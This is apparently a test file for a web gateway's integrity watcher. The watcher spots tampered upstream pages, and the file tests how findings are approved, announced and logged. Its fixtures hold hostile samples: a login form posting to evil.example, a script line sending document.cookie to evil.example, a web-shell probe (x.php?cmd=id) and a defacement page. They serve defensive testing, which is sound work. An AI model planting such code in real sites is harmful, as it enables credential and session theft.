/** The watch on apps in the whole gate: what passes is read beside the answers, found once, approved, announced, and fetched on a schedule. */
import { readFileSync } from 'node:fs'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import path from 'node:path'
import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib'
import t, { type Test } from 'tap'
import type { AuditSink } from '../../src/audit/event.ts'
import type { AppWatch } from '../../src/integrity/app-watch.ts'
import type { Reason } from '../../src/reasons/reason.ts'
import { commandAt } from '../fixtures/in-process/command.ts'
import { type Running, startGateway } from '../fixtures/in-process/gateway.ts'
import { startRedis } from '../fixtures/process/redis-server.ts'

type Served = (
  path: string,
  i: number
) => {
  readonly type?: string
  readonly status?: number
  readonly body: string
  readonly headers?: Record<string, string>
}

const codings: readonly (readonly [string, (text: string) => Buffer])[] = [
  ['gzip', text => gzipSync(text)],
  ['br', text => brotliCompressSync(text)],
  ['deflate', text => deflateSync(text)],
  ['', text => Buffer.from(text)]
]

/** An app whose pages a test changes; each answer has another content coding. */
async function changingApp(t: Test, first: Served) {
  const app = { serve: first, count: 0 }
  const server = http.createServer((req, res) => {
    req.resume()
    const i = app.count++
    const { type = 'text/html; charset=utf-8', status = 200, body, headers = {} } = app.serve(req.url ?? '/', i)
    const [coding, encode] = codings[i % codings.length]!
    res.writeHead(status, {
      'content-type': type,
      ...(coding === '' ? {} : { 'content-encoding': coding }),
      ...headers
    })
    res.end(encode(body))
  })
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  t.teardown(() => server.close())
  return { app, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` }
}

const page = (i: number, more = '', action = '/login') =>
  `<!doctype html><html><head><meta charset=utf-8><script nonce="n${i}x${i * 7}">window.t = ${i}; start("${i * 31}")</script>
  <script src="/app.${(i * 7919).toString(16).padStart(8, 'a')}.js"></script></head><body><main><form method=post action="${action}"><input name=csrf value="${i}"><input type=password name=p></form>${more}</main></body></html>`

function journal(gate: Running): Record<string, unknown>[] {
  return readFileSync(path.join(gate.folder, 'journal.jsonl'), 'utf8')
    .split('\n')
    .filter(line => line !== '')
    .map(line => JSON.parse(line))
    .filter(line => line.kind === 'watch.app')
}

async function written({ integrity, journal }: Running['server']['runtime']): Promise<void> {
  // The gate's own tick may be under way since before the last page was read, and would be this one.
  for (let tick = 0; tick < 2; tick++) await integrity!.tick()
  await journal.flush()
}

async function started(t: Test, served: Served, integrity = '{ learn: 0s }', clock = Date.now) {
  const { app, url } = await changingApp(t, served)
  const gate = await startGateway(t, {
    // In one process a command and a gate on one embedded store could wait for each other.
    store: (await startRedis(t)).url,
    apps: `  - { id: files, url: "http://files.localhost:PORT", upstream: "${url}", rules: [{ access: public }], integrity: ${integrity} }`,
    clock
  })
  const { runtime } = gate.server
  const watch = () => runtime.integrity!.watchOf('files') as AppWatch
  const get = (where: string, method = 'GET') =>
    gate.request(method, `${gate.origin('files')}${where}`, { 'accept-encoding': 'gzip, br, deflate' })
  /** Asks so often, and waits until the thread has read it. */
  const visit = async (where: string, times: number, method = 'GET') => {
    const before = watch().memory.pages
    for (let i = 0; i < times; i++) await get(where, method)
    while (method === 'GET' && watch().memory.pages < before + times) await new Promise(setImmediate)
    await written(runtime)
  }
  const command = commandAt(gate.configFile)
  /** What the notices of the events would carry. */
  const told: (readonly Reason[] | undefined)[] = []
  const sink = (beside: AuditSink): AuditSink => ({
    ...beside,
    record(event, reasons) {
      told.push(reasons)
      beside.record(event)
    }
  })
  Object.assign(runtime, { notifying: { sink, stop: () => {} } })
  return { app, gate, watch, visit, command, runtime, told }
}

t.test('a change is found once, approved, and quiet while it is announced', async t => {
  const { app, gate, visit, command, watch, told } = await started(t, (_, i) => ({ body: page(i) }))
  await visit('/login', 40)
  t.same(journal(gate), [], 'nonces, values and hashes of builds are nothing new, in any coding')

  app.serve = (_, i) => ({ body: page(i, '', 'https://evil.example/take') })
  await visit('/login', 5)
  const [line, ...more] = journal(gate)
  t.match(line, {
    app: 'files',
    outcome: 'alarm',
    page: '/login',
    isTold: true,
    what: 'form https://evil.example with a password'
  })
  t.equal(
    line?.why,
    "New on /login of the app 'files': a form that asks for a password is sent to https://evil.example. Only visitors from one network, who had not signed in, have seen it: the page may repeat what they have asked for."
  )
  t.same(more, [], 'once')
  t.match(told.at(-1), [
    { id: 'appOn', facts: { app: 'files', page: '/login' } },
    { id: 'appPasswordForm', facts: { target: 'https://evil.example' } }
  ])
  const appCommand = (...args: string[]) => command('watch', 'app', 'files', ...args)
  const shown = await appCommand()
  t.match(shown.stdout, /Read: \d+ pages\. Known: 1 script, \d+ statements/)
  const id = /^(\w{8}) +alarm /m.exec(shown.stdout)?.[1] as string
  t.match(JSON.parse((await appCommand('--json')).stdout), {
    app: 'files',
    findings: [{ id, page: '/login' }],
    changing: null
  })

  t.match(await appCommand('--approve', 'nothing1'), { code: 1, stderr: /has no open finding 'nothing1'/ })
  t.match(await appCommand('--approve', id, '--why', 'ours'), { code: 0, stderr: /^approved: New on \/login/ })
  while (watch().findings.length > 0) await new Promise(setImmediate)
  await visit('/login', 5)
  const alarms = () => journal(gate).filter(({ outcome }) => outcome === 'alarm' || outcome === 'change').length
  t.equal(alarms(), 1, 'what was approved belongs to the app')

  t.match(await appCommand('--changing', '2h'), { code: 2, stderr: /--why is missing/ })
  t.match(await appCommand('--changing', '2 weeks', '--why', 'x'), { code: 2, stderr: /from 1m to 7d/ })
  t.match(await appCommand('--changing', '2h', '--why', 'an update'), { code: 0, stderr: /everything new is learned/ })
  while (watch().changing === null) await new Promise(setImmediate)
  t.match((await appCommand()).stdout, /A change is announced until .* UTC by \S+: an update/)
  const announced = JSON.parse((await appCommand('--json')).stdout).changing
  t.match(announced, { from: /^20\d\d-.*Z$/, until: /^20\d\d-.*Z$/ })
  t.equal(journal(gate).at(-1)?.until, announced.until, 'the journal has the same form')
  app.serve = (_, i) => ({ body: page(i, '<script src="https://cdn.example/new.js"></script>') })
  await visit('/login', 3)
  t.match(await appCommand('--changing', 'off'), { code: 0, stderr: /^files: the change is over; / })
  while (watch().changing !== null) await new Promise(setImmediate)
  t.match(await appCommand('--changing', 'off'), { code: 0, stderr: /no change is announced, so there is none to end/ })
  await visit('/login', 3)
  t.equal(alarms(), 1, 'what was learned in between is known')
  t.same(
    journal(gate)
      .map(({ outcome, why }) => [outcome, why])
      .slice(1),
    [
      ['approved', 'ours'],
      ['changing', 'an update'],
      ['changed', 'ended']
    ]
  )
  t.match(await command('watch', 'app', 'none'), { code: 1, stderr: /there is no app 'none'; the apps are files/ })
  t.match((await command('report')).stdout, /files +missing header +Content-Security-Policy/)
})

t.test('a web shell, a script file that changes, and a stranger who fills the list', async t => {
  const js = 'text/javascript'
  const { app, gate, visit, command } = await started(t, (where, i) =>
    where.endsWith('.js') ? { type: js, body: `var v = ${i}; run(v)` } : { body: page(i) }
  )
  await visit('/login', 20)
  await visit('/app.js', 4)
  let isBroken = false
  app.serve = (where, i) =>
    where.startsWith('/uploads/')
      ? { body: '<pre>uid=0</pre>' }
      : where.endsWith('.js')
        ? { type: js, body: 'var v = 1; run(v); fetch("https://evil.example/" + document.cookie)' }
        : { body: page(i, '', where === '/login' && isBroken ? 'https://evil.example/take' : '/login') }
  await visit('/uploads/x.php?cmd=id', 1)
  await visit('/app.js', 1)
  // Nobody has signed in.
  for (let i = 0; i < 36; i++) await visit(`/pub/${'abcdefghij'[i % 10]}${'klmn'[Math.floor(i / 10)]}/go`, 1, 'POST')
  for (const name of 'abcdef') await visit(`/uploads/${name}.php`, 1, 'POST')
  isBroken = true
  // Pages are sampled: a busy gate leaves some unread.
  for (let i = 0; i < 20 && journal(gate).length < 7; i++) await visit('/login', 1)
  t.same(
    journal(gate).map(({ outcome, isTold }) => [outcome, isTold]),
    [
      ['alarm', true],
      ['alarm', true],
      ['alarm', true],
      ['alarm', false],
      ['alarm', false],
      ['full', true],
      ['alarm', true]
    ]
  )
  const says = /list of what is new in the app 'files' is full: further things that only people who have not signed/
  for (const name of ['watch app files', 'check', 'doctor']) {
    const { stdout, stderr } = await command(...name.split(' '))
    t.match(`${stdout}${stderr}`.replace(/\s+/g, ' '), says, name)
  }
  const whys = journal(gate).map(({ why }) => why)
  t.same(
    [...whys.slice(0, 2), whys.at(-1)],
    [
      "New on /uploads/x.php of the app 'files': /uploads/x.php answers with a page.",
      "New on /app.js of the app 'files': code names https://evil.example; the script file /app.js has other content. Only visitors from one network, who had not signed in, have seen it: the page may repeat what they have asked for.",
      "New on /login of the app 'files': a form that asks for a password is sent to https://evil.example. Only visitors from one network, who had not signed in, have seen it: the page may repeat what they have asked for."
    ]
  )
})

t.test('pages that the gate fetches itself', async t => {
  let now = Date.UTC(2026, 10, 2)
  const { app, gate, runtime, watch } = await started(
    t,
    (where, i) =>
      where === '/'
        ? { status: 302, headers: { location: '/login' }, body: '' }
        : { body: page(i, '<p>a</p><ul><li>b</ul><h1>x</h1><footer>c</footer>') },
    '{ pages: [/, /login], every: 1m, learn: 1d }',
    () => now
  )
  const check = async (times: number) => {
    for (let i = 0; i < times; i++) {
      now += 60_000
      await runtime.integrity!.check()
    }
    await written(runtime)
  }
  await check(10)
  t.equal(watch().memory.pages, 20, 'both, of which one is a redirect')
  now += 86_400_000
  await check(2)
  t.same(journal(gate), [])
  app.serve = where =>
    where === '/'
      ? { status: 302, headers: { location: 'https://evil.example/' }, body: '' }
      : {
          body: '<html><body><center><marquee>owned</marquee><img src=x><b>by</b><i>us</i><font>x</font></center></body></html>'
        }
  await check(1)
  t.same(
    journal(gate).map(({ page, what }) => [page, String(what).replace(/structure \S+ of/, 'structure of')]),
    [
      ['/', 'redirect https://evil.example'],
      ['/login', 'structure of /login']
    ]
  )
})
